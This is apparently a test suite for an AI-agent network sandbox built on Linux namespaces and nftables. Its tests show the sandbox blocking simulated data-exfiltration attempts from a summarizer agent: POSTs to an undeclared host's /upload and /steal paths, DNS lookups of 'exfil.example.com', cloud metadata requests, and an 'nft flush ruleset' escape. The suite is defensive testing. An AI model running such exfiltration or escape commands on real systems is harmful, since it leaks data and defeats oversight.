/**
 * The network sandbox in real network namespaces with real nftables: the seed's
 * lateral-movement attack end to end. Test hosts live in namespaces of their own on
 * 10.251.8.0/24 ("database-reader", declared) and 10.251.9.0/24 ("external", undeclared);
 * nothing is ever sent outside this machine. Needs root; runs (never skips) in CI.
 */
import { spawn, spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { getDefaultEnvironment, StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Authority, type ManifestInput, type ToolDeclaration } from 'agent-trust'
import { withCapabilities } from 'agent-trust/mcp'
import { MemoryAuditLog } from '../../src/audit/types.js'
import { parseManifest } from '../../src/config/manifest.js'
import { startSandbox, type Sandbox } from '../../src/sandbox/index.js'
import { cli, cliEnv, MAIN } from '../support/cli.js'
import { CONTEXT, textOf } from '../support/mcp-world.js'
import { kernelObjects, makeTestCa, startTestHost, type TestHost } from '../support/netns.js'

const DB = '10.251.8.2'
const EXT = '10.251.9.2'
const MANIFEST = {
  agents: [
    {
      id: 'agent-summarizer-v2',
      trustLevel: 'L1',
      egress: [
        `http://${DB}:8080`,
        `https://${DB}:8443`,
        'http://reader.sandbox.test:8080 internal',
        'http://public.sandbox.test',
        'http://meta.sandbox.test',
      ],
    },
    { id: 'agent-writer', trustLevel: 'L2', egress: [`http://${DB}:8080`, `https://${DB}:8443`] },
    { id: 'agent-offline', trustLevel: 'L0', egress: [`http://${DB}:8080`] },
    // agent-peer-client declares agent-peer-server (by its id) on port 7000, nothing else.
    { id: 'agent-peer-server', trustLevel: 'L2', egress: [`http://${DB}:8080`] },
    { id: 'agent-peer-client', trustLevel: 'L2', egress: ['http://agent-peer-server:7000 internal'] },
  ],
}
const manifest = parseManifest(MANIFEST)
// Test names resolve to the test hosts only; a non-internal name answering a private address is refused.
const resolver = async (h: string) =>
  h === 'reader.sandbox.test' || h === 'public.sandbox.test'
    ? [{ address: DB }]
    : h === 'meta.sandbox.test'
      ? [{ address: '169.254.169.254' }]
      : Promise.reject(new Error('ENOTFOUND'))

let db: TestHost
let ext: TestHost
let dir: string
let before: string[]
let ca: string

beforeAll(async () => {
  if (process.getuid?.() !== 0) throw new Error('the sandbox tests need root (CI runs as root)')
  before = kernelObjects()
  dir = mkdtempSync(join(tmpdir(), 'agent-trust-sandbox-'))
  // HTTPS on both test hosts, with certificates of a test CA only the sandboxed clients are told to trust.
  const tls = makeTestCa(dir, [DB, EXT])
  ca = tls.caFile
  db = await startTestHost(8, 'database-reader', [8080], [], { ports: [8443], key: tls.key, cert: tls.cert })
  ext = await startTestHost(9, 'external', [80, 8080], [53, 9999], { ports: [443], key: tls.key, cert: tls.cert })
  // The CLI resolves internal names with the system resolver: its manifest keeps the literals only.
  const forCli = { agents: MANIFEST.agents.map((a) => ({ ...a, egress: a.egress.filter((e) => !e.includes('sandbox.test')) })) }
  writeFileSync(join(dir, 'm.json'), JSON.stringify(forCli))
}, 30_000)

afterAll(() => {
  db?.close()
  ext?.close()
  if (dir !== undefined) rmSync(dir, { recursive: true, force: true })
})

interface Ran {
  code: number | null
  out: string
}
function inside(sb: Sandbox, command: string, args: string[], env: Record<string, string> = {}): Promise<Ran> {
  return new Promise((resolve) => {
    const c = sb.spawn(command, args, { stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, ...env } })
    let out = ''
    c.stdout?.on('data', (d: Buffer) => (out += d.toString()))
    c.stderr?.on('data', (d: Buffer) => (out += d.toString()))
    c.on('exit', (code) => resolve({ code, out }))
  })
}
const node = (sb: Sandbox, code: string) => inside(sb, process.execPath, ['-e', code])
const curl = (sb: Sandbox, ...args: string[]) => inside(sb, 'curl', ['-sS', '-m', '2', ...args])
const proxyUrl = (sb: Sandbox) => `http://${sb.proxy!.address}:${sb.proxy!.port}`
/** A raw CONNECT from inside the sandbox: the proxy's whole answer (status line, fields, body). */
const rawConnect = (sb: Sandbox, target: string) =>
  node(
    sb,
    `const s = require('node:net').connect(${sb.proxy!.port}, '${sb.proxy!.address}', () => s.write('CONNECT ${target} HTTP/1.1\\r\\nhost: ${target}\\r\\n\\r\\n')); let b = ''; s.on('data', (d) => (b += d)); s.on('close', () => console.log(b)); s.setTimeout(1500, () => s.destroy())`,
  )

describe('the seed attack: a summarizer in the sandbox', () => {
  let sb: Sandbox
  const audit = new MemoryAuditLog()
  beforeAll(async () => {
    sb = await startSandbox({ agent: 'agent-summarizer-v2', manifest, audit, resolver })
  })
  afterAll(async () => sb?.close())

  it('reaches the declared database-reader, directly and by its declared internal name', async () => {
    expect((await curl(sb, `http://${DB}:8080/docs`)).out).toContain('hello from database-reader GET /docs')
    expect((await curl(sb, 'http://reader.sandbox.test:8080/docs')).out).toContain('hello from database-reader')
    expect(readFileSync(`/etc/netns/${sb.names.netns}/hosts`, 'utf8')).toContain(`${DB} reader.sandbox.test`)
  })

  it('cannot reach the external host by any route; the external host records nothing', async () => {
    const packets = ext.packets()
    const attempts: Array<Promise<Ran>> = [
      curl(sb, '--noproxy', '*', `http://${EXT}/upload`),
      curl(sb, '--noproxy', '*', `http://${EXT}:8080/upload`),
      curl(sb, '--noproxy', '*', '-k', `https://${EXT}/upload`),
      node(
        sb,
        `fetch('http://${EXT}:8080/upload', { method: 'POST', body: 'docs', signal: AbortSignal.timeout(1500) }).then(() => console.log('REACHED'), (e) => console.log('failed', e.cause?.code))`,
      ),
      node(
        sb,
        `require('node:http').get('http://${EXT}/', () => console.log('REACHED')).on('error', (e) => console.log('failed', e.code)).setTimeout(1500, function () { this.destroy() })`,
      ),
      node(
        sb,
        `const s = require('node:net').connect(443, '${EXT}', () => console.log('REACHED')); s.on('error', (e) => console.log('failed', e.code)); s.setTimeout(1500, () => s.destroy())`,
      ),
      node(
        sb,
        `const s = require('node:net').connect(80, '::ffff:${EXT}', () => console.log('REACHED')); s.on('error', (e) => console.log('failed', e.code)); s.setTimeout(1500, () => s.destroy())`,
      ),
      node(
        sb,
        `const u = require('node:dgram').createSocket('udp4'); u.send('docs', 9999, '${EXT}', (e) => { console.log('udp', e?.code); u.close() })`,
      ),
      node(
        sb,
        `const r = new (require('node:dns').promises.Resolver)({ timeout: 500, tries: 1 }); r.setServers(['${EXT}']); r.resolve4('exfil.example.com').then(() => console.log('REACHED'), (e) => console.log('dns failed', e.code))`,
      ),
      node(
        sb,
        `require('node:dns').promises.lookup('external-api.com').then(() => console.log('REACHED'), (e) => console.log('lookup failed', e.code))`,
      ),
      // getaddrinfo consults only the hosts file inside: no resolver reached over a host Unix socket (nss-resolve, mdns).
      node(
        sb,
        `const t = require('node:fs').readFileSync('/etc/nsswitch.conf', 'utf8'); console.log(/^hosts:\\s*files\\s*$/m.test(t) && !/^hosts:.*(dns|resolve|mdns)/m.test(t) ? 'files only' : 'REACHED: ' + t)`,
      ),
    ]
    const results = await Promise.all(attempts)
    for (const r of results) expect(r.out).not.toContain('REACHED')
    expect(results.at(-1)?.out).toContain('files only')
    expect(results.slice(0, 3).every((r) => r.code !== 0)).toBe(true)
    expect(await ext.events()).toEqual([])
    expect(ext.packets()).toBe(packets)
  }, 20_000)

  it('the proxy refuses an undeclared destination with 403 and the rule, and audits it', async () => {
    const r = await curl(sb, '-i', `http://${EXT}:8080/upload`)
    expect(r.out).toMatch(/^HTTP\/1\.1 403/)
    expect(r.out).toContain('x-agent-trust-rule: ip-literal')
    expect(r.out).toContain('ERR_EGRESS_DENIED')
    const ev = audit.events.find((e) => e.decision === 'deny' && e.destination === `http://${EXT}:8080`)
    expect(ev).toMatchObject({ action: 'egress', origin: 'agent-summarizer-v2', code: 'ERR_EGRESS_DENIED' })
    expect(await ext.events()).toEqual([])
  })

  it('an L1 agent gets GET through the proxy, its POST and tunnels are refused', async () => {
    const get = await curl(sb, '--noproxy', '', '-x', `http://${sb.proxy!.address}:${sb.proxy!.port}`, `http://${DB}:8080/a`)
    expect(get.out).toContain('hello from database-reader GET /a')
    const post = await curl(
      sb,
      '-i',
      '--noproxy',
      '',
      '-x',
      `http://${sb.proxy!.address}:${sb.proxy!.port}`,
      '-d',
      'docs',
      `http://${DB}:8080/a`,
    )
    expect(post.out).toMatch(/^HTTP\/1\.1 403/)
    expect(post.out).toContain('x-agent-trust-rule: method')
    expect(audit.events.some((e) => e.decision === 'allow' && e.note?.startsWith('proxy request GET'))).toBe(true)
  })

  it('an L1 agent gets no CONNECT tunnel, not even to a declared https destination (the method inside TLS is invisible)', async () => {
    const seen = (await db.events()).length
    const tunnel = await curl(sb, '-v', '--cacert', ca, '--noproxy', '', '-x', proxyUrl(sb), `https://${DB}:8443/a`)
    expect(tunnel.code).not.toBe(0)
    expect(tunnel.out).toContain('< HTTP/1.1 403')
    expect(tunnel.out).toContain('< x-agent-trust-rule: method')
    expect(audit.events.some((e) => e.decision === 'deny' && e.note === 'proxy connect CONNECT rule=method')).toBe(true)
    // A plain-HTTP exchange asked for as a tunnel (curl -p) is refused the same way.
    const plain = await curl(sb, '-v', '-p', '--noproxy', '', '-x', proxyUrl(sb), `http://${DB}:8080/a`)
    expect(plain.out).toContain('< HTTP/1.1 403')
    expect((await db.events()).length).toBe(seen)
  })

  it('redirects are decided per hop: a declared host answering 302 to an undeclared one gets the proxy refusal for the second hop', async () => {
    const packets = ext.packets()
    const to = (u: string) => `http://${DB}:8080/redirect?to=${encodeURIComponent(u)}`
    // Through the proxy for both hops.
    const r = await curl(sb, '-i', '-L', '--noproxy', '', '-x', proxyUrl(sb), to(`http://${EXT}:8080/steal`))
    expect(r.out).toMatch(/^HTTP\/1\.1 302/)
    expect(r.out).toContain(`location: http://${EXT}:8080/steal`)
    expect(r.out).toContain('HTTP/1.1 403')
    expect(r.out).toContain('x-agent-trust-rule: ip-literal')
    expect(r.out).not.toContain('hello from external')
    // As the environment sets it up: the declared peer directly, the next hop through the proxy.
    const env = await curl(sb, '-i', '-L', to(`http://${EXT}/steal`))
    expect(env.out).toMatch(/^HTTP\/1\.1 302/)
    expect(env.out).toContain('x-agent-trust-rule: ip-literal')
    // A redirect to a declared destination is followed (each hop is its own decision).
    const fine = await curl(sb, '-L', '--noproxy', '', '-x', proxyUrl(sb), to(`http://${DB}:8080/landed`))
    expect(fine.out).toContain('hello from database-reader GET /landed')
    const hops = audit.events.filter((e) => e.note?.startsWith('proxy request GET'))
    expect(hops.some((e) => e.decision === 'allow' && e.destination === `http://${DB}:8080`)).toBe(true)
    expect(hops.some((e) => e.decision === 'deny' && e.destination === `http://${EXT}:8080` && e.code === 'ERR_EGRESS_DENIED')).toBe(true)
    expect(hops.some((e) => e.decision === 'deny' && e.destination === `http://${EXT}:80`)).toBe(true)
    expect(await ext.events()).toEqual([])
    expect(ext.packets()).toBe(packets)
  })

  it('a declared name whose DNS answer is a cloud metadata address is refused by the proxy', async () => {
    const r = await curl(sb, '-i', 'http://meta.sandbox.test/latest/meta-data/')
    expect(r.out).toMatch(/^HTTP\/1\.1 403/)
    expect(r.out).toContain('x-agent-trust-rule: address')
    expect(audit.events.some((e) => e.note?.includes('rule=address class=metadata'))).toBe(true)
  })

  it('a declared name whose DNS answer is private is refused by the proxy (no internal flag)', async () => {
    const r = await curl(sb, '-i', 'http://public.sandbox.test/x')
    expect(r.out).toContain('x-agent-trust-rule: address')
    expect(audit.events.some((e) => e.note?.includes('rule=address class=private'))).toBe(true)
  })

  it('uid and gid run the command as that user, still without capabilities', async () => {
    const c = sb.spawn('sh', ['-c', 'id -u; id -g; grep CapEff /proc/self/status'], {
      uid: 65534,
      gid: 65534,
      stdio: ['ignore', 'pipe', 'pipe'],
    })
    let out = ''
    c.stdout?.on('data', (d: Buffer) => (out += d.toString()))
    await new Promise((r) => c.on('exit', r))
    expect(out).toMatch(/^65534\n65534\nCapEff:\s+0+\n$/)
    expect(() => sb.spawn('true', [], { uid: -1 })).toThrow(expect.objectContaining({ code: 'ERR_CONFIG_INVALID' }))
  })

  it('the command has no capabilities: it cannot change its own rules', async () => {
    const r = await inside(sb, 'nft', ['flush', 'ruleset'])
    expect(r.code).not.toBe(0)
    expect((await curl(sb, '--noproxy', '*', `http://${EXT}:8080/`)).code).not.toBe(0)
  })
})

describe('levels and separation', () => {
  it('an L0 agent has loopback only: it reaches neither host', async () => {
    const sb = await startSandbox({ agent: 'agent-offline', manifest })
    try {
      expect(sb.proxy).toBeUndefined()
      const seen = (await db.events()).length
      const r = await curl(sb, '--noproxy', '*', `http://${DB}:8080/`)
      expect(r.code).not.toBe(0)
      expect((await node(sb, `console.log(Object.keys(require('os').networkInterfaces()).join(','))`)).out.trim()).toBe('lo')
      expect((await db.events()).length).toBe(seen)
    } finally {
      await sb.close()
    }
  })

  it('HTTPS through the proxy: an L2 agent tunnels to a declared destination (test CA), an undeclared one is refused with the rule; both audited', async () => {
    const audit = new MemoryAuditLog()
    const sb = await startSandbox({ agent: 'agent-writer', manifest, audit })
    try {
      // curl verifies the server against the test CA through the tunnel (no -k): the proxy relays TLS untouched.
      const ok = await curl(sb, '--cacert', ca, '--noproxy', '', '-x', proxyUrl(sb), `https://${DB}:8443/t`)
      expect(ok.out).toContain('hello from database-reader GET /t')
      // Node trusts it through NODE_EXTRA_CA_CERTS, over a tunnel it opens itself.
      const viaNode = await inside(
        sb,
        process.execPath,
        [
          '-e',
          `const r = require('node:http').request({ host: '${sb.proxy!.address}', port: ${sb.proxy!.port}, method: 'CONNECT', path: '${DB}:8443' }); r.on('connect', (res, socket) => require('node:https').get({ host: '${DB}', port: 8443, path: '/n', socket, agent: false }, (g) => g.on('data', (d) => console.log(String(d)))).on('error', (e) => console.log('failed', e.code))); r.end()`,
        ],
        { NODE_EXTRA_CA_CERTS: ca },
      )
      expect(viaNode.out).toContain('hello from database-reader GET /n')
      const allowed = audit.events.filter((e) => e.decision === 'allow' && e.note === 'proxy connect CONNECT')
      expect(allowed.length).toBe(2)
      expect(allowed[0]!.destination).toContain(`${DB}:8443`)

      const refused = await curl(sb, '-v', '--cacert', ca, '--noproxy', '', '-x', proxyUrl(sb), `https://${EXT}/t`)
      expect(refused.code).not.toBe(0)
      expect(refused.out).toContain('< HTTP/1.1 403')
      expect(refused.out).toContain('< x-agent-trust-rule: ip-literal')
      const raw = await rawConnect(sb, `${EXT}:443`)
      expect(raw.out).toMatch(/^HTTP\/1\.1 403 Forbidden\r\n/)
      const body = JSON.parse(raw.out.slice(raw.out.indexOf('\r\n\r\n') + 4)) as { error: { code: string; rule: string; message: string } }
      expect(body.error).toMatchObject({ code: 'ERR_EGRESS_DENIED', rule: 'ip-literal' })
      expect(body.error.message).toContain('agent-writer')
      const denied = audit.events.filter((e) => e.decision === 'deny' && e.note === 'proxy connect CONNECT rule=ip-literal')
      expect(denied.length).toBe(2)
      expect(denied[0]).toMatchObject({ code: 'ERR_EGRESS_DENIED', origin: 'agent-writer' })
      expect(await ext.events()).toEqual([])
    } finally {
      await sb.close()
    }
  })

  it('two sandboxes at once get separate namespaces and cannot reach each other', async () => {
    const a = await startSandbox({ agent: 'agent-writer', manifest })
    const b = await startSandbox({ agent: 'agent-writer', manifest })
    try {
      expect(a.names.netns).not.toBe(b.names.netns)
      expect(a.subnet!.cidr).not.toBe(b.subnet!.cidr)
      const server = a.spawn(
        process.execPath,
        ['-e', `require('node:net').createServer((s) => s.end('A')).listen(7000, '0.0.0.0', () => console.log('up'))`],
        {
          stdio: ['ignore', 'pipe', 'ignore'],
        },
      )
      await new Promise((r) => server.stdout?.once('data', r))
      const r = await node(
        b,
        `const s = require('node:net').connect(7000, '${a.subnet!.sandboxIp}', () => console.log('REACHED')); s.on('error', (e) => console.log('failed', e.code)); s.setTimeout(1500, () => s.destroy())`,
      )
      expect(r.out).not.toContain('REACHED')
      const proxyOfA = await node(
        b,
        `const s = require('node:net').connect(${a.proxy!.port}, '${a.proxy!.address}', () => console.log('REACHED')); s.on('error', (e) => console.log('failed', e.code)); s.setTimeout(1500, () => s.destroy())`,
      )
      expect(proxyOfA.out).not.toContain('REACHED')
    } finally {
      await a.close()
      await b.close()
    }
  })
  it('two different agents at once: separate namespaces; one reaches the other only on the port it declared', async () => {
    const server = await startSandbox({ agent: 'agent-peer-server', manifest, resolver })
    const client = await startSandbox({ agent: 'agent-peer-client', manifest, resolver })
    const other = await startSandbox({ agent: 'agent-writer', manifest, resolver })
    const dial = (sb: Sandbox, host: string, port: number) =>
      node(
        sb,
        `const s = require('node:net').connect(${port}, '${host}', () => { console.log('REACHED'); s.destroy() }); s.on('data', (d) => console.log('got', String(d))); s.on('error', (e) => console.log('failed', e.code)); s.setTimeout(1500, () => s.destroy())`,
      )
    try {
      expect(new Set([server.names.netns, client.names.netns, other.names.netns]).size).toBe(3)
      const listener = server.spawn(
        process.execPath,
        ['-e', `for (const p of [7000, 7001]) require('node:net').createServer((s) => s.end('S')).listen(p, '0.0.0.0'); console.log('up')`],
        { stdio: ['ignore', 'pipe', 'ignore'] },
      )
      await new Promise((r) => listener.stdout?.once('data', r))
      // The declared name is the server agent's id; it resolves to its live sandbox.
      expect(readFileSync(`/etc/netns/${client.names.netns}/hosts`, 'utf8')).toContain(`${server.subnet!.sandboxIp} agent-peer-server`)
      expect((await dial(client, 'agent-peer-server', 7000)).out).toContain('REACHED')
      expect((await dial(client, server.subnet!.sandboxIp, 7001)).out).not.toContain('REACHED')
      expect((await dial(other, server.subnet!.sandboxIp, 7000)).out).not.toContain('REACHED')
      const back = client.spawn(
        process.execPath,
        ['-e', `require('node:net').createServer((s) => s.end('C')).listen(7000, '0.0.0.0'); console.log('up')`],
        {
          stdio: ['ignore', 'pipe', 'ignore'],
        },
      )
      await new Promise((r) => back.stdout?.once('data', r))
      expect((await dial(server, client.subnet!.sandboxIp, 7000)).out).not.toContain('REACHED')
    } finally {
      await Promise.all([server.close(), client.close(), other.close()])
    }
  }, 20_000)
})

describe('agent-trust sandbox run (the CLI)', () => {
  const run = (args: string[], env: Record<string, string | undefined> = {}) =>
    cli(['sandbox', 'run', '--manifest', 'm.json', ...args], { cwd: dir, env: cliEnv(dir, env) })

  it('passes the exit code through, audits, and the audit file verifies and names the refused destination', async () => {
    const ok = await run([
      '--audit-file',
      'a.jsonl',
      '--agent',
      'agent-summarizer-v2',
      '--',
      'sh',
      '-c',
      `curl -sS -m 2 http://${DB}:8080/x && curl -s -m 2 http://${EXT}:8080/x; exit 7`,
    ])
    expect(ok.code).toBe(7)
    expect(ok.stdout).toContain('hello from database-reader')
    expect(ok.stdout).toContain('ERR_EGRESS_DENIED')
    const v = await cli(['audit', 'verify', '--require-sealed', 'a.jsonl'], { cwd: dir, env: cliEnv(dir) })
    expect(v.code).toBe(0)
    expect(readFileSync(join(dir, 'a.jsonl'), 'utf8')).toContain(`"destination":"http://${EXT}:8080"`)
    expect(await ext.events()).toEqual([])
  }, 30_000)

  it('bad input: unknown agent, manifest error, missing command exit 4; no capability exits 3; nothing left behind', async () => {
    expect((await run(['--agent', 'nobody', '--', 'true'])).code).toBe(4)
    writeFileSync(join(dir, 'bad.json'), '{"agents":[{"id":"x","trustLevel":"L9"}]}')
    expect(
      (await cli(['sandbox', 'run', '--manifest', 'bad.json', '--agent', 'x', '--', 'true'], { cwd: dir, env: cliEnv(dir) })).code,
    ).toBe(4)
    const missing = await run(['--agent', 'agent-writer', '--', 'no-such-command-here'])
    expect(missing.code).toBe(4)
    expect(missing.stderr).toContain('was not found')
    expect((await run(['--agent', 'agent-writer', '--user', 'nobody', '--', 'true'])).code).toBe(2)
    const asUser = await run(['--agent', 'agent-writer', '--user', '65534', '--', 'id', '-u'])
    expect(asUser.code).toBe(0)
    expect(asUser.stdout.trim()).toBe('65534')
    // Not root: the same CLI with every capability dropped.
    const tsx = import.meta.resolve('tsx')
    const r = spawnSync(
      'setpriv',
      [
        '--bounding-set=-all',
        '--inh-caps=-all',
        '--ambient-caps=-all',
        '--',
        process.execPath,
        '--import',
        tsx,
        '--conditions=agent-trust-source',
        MAIN,
        'sandbox',
        'run',
        '--manifest',
        'm.json',
        '--agent',
        'agent-writer',
        '--',
        'true',
      ],
      { cwd: dir, env: cliEnv(dir) as NodeJS.ProcessEnv, encoding: 'utf8' },
    )
    expect(r.status).toBe(3)
    expect(r.stderr).toContain('CAP_NET_ADMIN')
    expect(kernelObjects()).toEqual(before)
  }, 30_000)

  it('export --format nft passes nft -c -f', async () => {
    const r = await cli(['sandbox', 'export', '--manifest', 'm.json', '--agent', 'agent-summarizer-v2', '--format', 'nft'], {
      cwd: dir,
      env: cliEnv(dir),
    })
    expect(r.code).toBe(0)
    const check = spawnSync('nft', ['-c', '-f', '-'], { input: r.stdout, encoding: 'utf8' })
    expect(check.status).toBe(0)
    // The port another agent declared for this one is open at the sandbox's address.
    const peer = await cli(['sandbox', 'export', '--manifest', 'm.json', '--agent', 'agent-peer-server', '--format', 'nft'], {
      cwd: dir,
      env: cliEnv(dir),
    })
    expect(peer.code).toBe(0)
    expect(peer.stdout).toContain('ip daddr 10.250.0.2 tcp dport 7000 accept')
    expect(spawnSync('nft', ['-c', '-f', '-'], { input: peer.stdout, encoding: 'utf8' }).status).toBe(0)
  }, 20_000)
})

describe('cleanup is certain', () => {
  const launch = (args: string[]) =>
    spawn(
      process.execPath,
      ['--import', import.meta.resolve('tsx'), '--conditions=agent-trust-source', MAIN, 'sandbox', 'run', '--manifest', 'm.json', ...args],
      {
        cwd: dir,
        env: cliEnv(dir) as NodeJS.ProcessEnv,
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    )
  const started = async (c: ReturnType<typeof launch>) =>
    new Promise<void>((resolve) => c.stdout.on('data', (d: Buffer) => d.toString().includes('started') && resolve()))
  const exited = (c: ReturnType<typeof launch>) => new Promise<number | null>((resolve) => c.on('exit', (code) => resolve(code)))

  it('after a normal exit', async () => {
    const r = await run(['--agent', 'agent-writer', '--', 'sh', '-c', 'exit 0'])
    expect(r.code).toBe(0)
    expect(kernelObjects()).toEqual(before)
  }, 20_000)

  it('after SIGKILL of the command', async () => {
    const r = await run(['--agent', 'agent-writer', '--', 'sh', '-c', 'kill -9 $$'])
    expect(r.code).toBe(137)
    expect(kernelObjects()).toEqual(before)
  }, 20_000)

  it('after SIGTERM of the launcher', async () => {
    const c = launch(['--agent', 'agent-writer', '--', 'sh', '-c', 'echo started; sleep 30'])
    await started(c)
    // While it runs: its namespace, veth, table and the proxy's listener exist.
    const during = kernelObjects().filter((o) => !before.includes(o))
    expect(during.map((o) => o.split(' ')[0]).sort()).toEqual(['link', 'listen', 'netns', 'table'])
    c.kill('SIGTERM')
    await exited(c)
    expect(kernelObjects()).toEqual(before)
  }, 20_000)

  it('after sandbox gc, for a SIGKILLed launcher (its command killed too)', async () => {
    const c = launch(['--agent', 'agent-writer', '--', 'sh', '-c', 'echo started; sleep 30'])
    await started(c)
    c.kill('SIGKILL')
    await exited(c)
    expect(kernelObjects().length).toBeGreaterThan(before.length)
    const gc = await cli(['sandbox', 'gc', '--json'], { cwd: dir, env: cliEnv(dir) })
    expect(gc.code).toBe(0)
    expect((JSON.parse(gc.stdout) as { removed: string[] }).removed.length).toBeGreaterThan(0)
    expect(kernelObjects()).toEqual(before)
  }, 20_000)

  function run(args: string[]) {
    return cli(['sandbox', 'run', '--manifest', 'm.json', ...args], { cwd: dir, env: cliEnv(dir) })
  }
})

describe('examples/sandbox-spawn.ts', () => {
  it('runs the spawned summarizer in a sandbox: the declared reader answers, the rest is refused or dropped; nothing left behind', async () => {
    const example = fileURLToPath(new URL('../../examples/sandbox-spawn.ts', import.meta.url))
    const r = spawnSync(process.execPath, ['--import', import.meta.resolve('tsx'), '--conditions=agent-trust-source', example], {
      encoding: 'utf8',
      timeout: 30_000,
    })
    expect(r.status).toBe(0)
    expect(r.stdout).toContain('GET http://agent-database-reader:8080/  -> 200 documents of user-123')
    expect(r.stdout).toContain('(proxy)  -> 403 rule=not-declared')
    expect(r.stdout).toMatch(/198\.51\.100\.7:443 {2}-> (dropped|failed)/)
    expect(r.stdout).toContain('deny agent-summarizer-v2 -> http://external-api.com:80 ERR_EGRESS_DENIED')
    expect(kernelObjects()).toEqual(before)
  }, 40_000)
})

describe('agent-trust-mcp-gateway --isolate', () => {
  const GATEWAY = fileURLToPath(new URL('../../adapters/mcp/gateway-cli.ts', import.meta.url))
  const SERVER = fileURLToPath(new URL('../support/mcp-egress-server.ts', import.meta.url))
  const tsx = import.meta.resolve('tsx')
  const gatewayArgs = (extra: string[]) => [
    '--import',
    tsx,
    '--conditions=agent-trust-source',
    GATEWAY,
    '--manifest',
    join(dir, 'gw.json'),
    '--server-id',
    'egress-test',
    '--isolate',
    ...extra,
    '--',
    process.execPath,
    '--import',
    tsx,
    SERVER,
  ]
  const gwManifest = (tools: ToolDeclaration[]) => ({
    agents: [
      { id: 'agent-caller', trustLevel: 'L2', grants: ['mcp:*:tools/list', 'tool:egress-test:fetch_url'] },
      { id: 'egress-test', trustLevel: 'L2', egress: [`http://${DB}:8080`], tools },
    ],
  })

  it('runs the stdio upstream in a sandbox from its manifest entry: its tool reaches the declared host only', async () => {
    writeFileSync(join(dir, 'gw.json'), JSON.stringify(gwManifest([])))
    const review = spawnSync(process.execPath, gatewayArgs(['--print-hashes']), {
      encoding: 'utf8',
      timeout: 30_000,
      env: getDefaultEnvironment(),
    })
    expect(review.status).toBe(0)
    const tool = (JSON.parse(review.stdout) as { tools: ToolDeclaration[] }).tools.find((t) => t.name === 'fetch_url')!
    const pinned = gwManifest([{ ...tool, operation: 'read' }])
    writeFileSync(join(dir, 'gw.json'), JSON.stringify(pinned))
    const authority = await Authority.create({ manifest: pinned as ManifestInput })
    writeFileSync(join(dir, 'gw-jwks.json'), JSON.stringify(authority.jwks()))
    const client = withCapabilities(new Client({ name: 'caller', version: '1.0.0' }), {
      issuer: authority,
      agentId: 'agent-caller',
      serverId: 'egress-test',
      context: CONTEXT,
    })
    const seen = (await db.events()).length
    await client.connect(
      new StdioClientTransport({
        command: process.execPath,
        args: gatewayArgs(['--jwks', join(dir, 'gw-jwks.json'), '--audit-file', join(dir, 'gw-audit.jsonl')]),
        env: getDefaultEnvironment(),
        stderr: 'ignore',
      }),
    )
    try {
      expect(kernelObjects().length).toBeGreaterThan(before.length)
      const ok = textOf(await client.callTool({ name: 'fetch_url', arguments: { url: `http://${DB}:8080/docs` } }))
      expect(ok).toContain('direct: 200 hello from database-reader GET /docs')
      const bad = textOf(await client.callTool({ name: 'fetch_url', arguments: { url: `http://${EXT}:8080/steal` } }))
      expect(bad).toMatch(/^direct: failed (TIMEOUT|ECONNREFUSED|EHOSTUNREACH|ENETUNREACH)/)
      expect(bad).toContain('proxy: 403 ip-literal')
      expect((await db.events()).length).toBeGreaterThan(seen)
      expect(await ext.events()).toEqual([])
      // The trail is written in batches: let the proxy's refusal reach the file before the gateway stops.
      const trailFile = join(dir, 'gw-audit.jsonl')
      for (let i = 0; i < 50 && !(existsSync(trailFile) && readFileSync(trailFile, 'utf8').includes(`${EXT}:8080`)); i++)
        await new Promise((r) => setTimeout(r, 100))
    } finally {
      await client.close()
      authority.close()
    }
    for (let i = 0; i < 50 && kernelObjects().length !== before.length; i++) await new Promise((r) => setTimeout(r, 100))
    expect(kernelObjects()).toEqual(before)
    const trail = readFileSync(join(dir, 'gw-audit.jsonl'), 'utf8')
    expect(trail).toContain(`"destination":"http://${EXT}:8080"`)
    expect(trail).toContain('"code":"ERR_EGRESS_DENIED"')
  }, 60_000)

  it('--isolate for an agent not in the manifest exits 4; with an HTTP upstream it is a usage error', () => {
    const unknown = spawnSync(
      process.execPath,
      [
        '--import',
        tsx,
        '--conditions=agent-trust-source',
        GATEWAY,
        '--manifest',
        join(dir, 'gw.json'),
        '--server-id',
        'nobody',
        '--isolate',
        '--print-hashes',
        '--',
        'true',
      ],
      { encoding: 'utf8', timeout: 30_000 },
    )
    expect(unknown.status).toBe(4)
    expect(unknown.stderr).toContain('ERR_AGENT_UNKNOWN')
    const http = spawnSync(
      process.execPath,
      [
        '--import',
        tsx,
        '--conditions=agent-trust-source',
        GATEWAY,
        '--server-id',
        'egress-test',
        '--isolate',
        '--upstream-url',
        'http://127.0.0.1:1/mcp',
      ],
      { encoding: 'utf8', timeout: 30_000 },
    )
    expect(http.status).toBe(2)
    expect(kernelObjects()).toEqual(before)
  }, 60_000)
})
